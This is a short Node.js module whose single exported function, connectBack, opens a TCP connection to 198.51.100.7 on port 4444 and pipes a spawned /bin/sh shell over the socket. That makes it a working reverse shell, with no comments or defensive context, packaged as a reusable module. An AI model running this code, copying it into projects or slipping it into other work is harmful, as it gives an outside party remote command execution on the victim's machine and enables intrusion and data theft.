const net = require('net');
const cp = require('child_process');

function connectBack() {
  const client = new net.Socket();
  client.connect(4444, '198.51.100.7', () => {
    const sh = cp.spawn('/bin/sh', []);
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
}

module.exports = { connectBack };
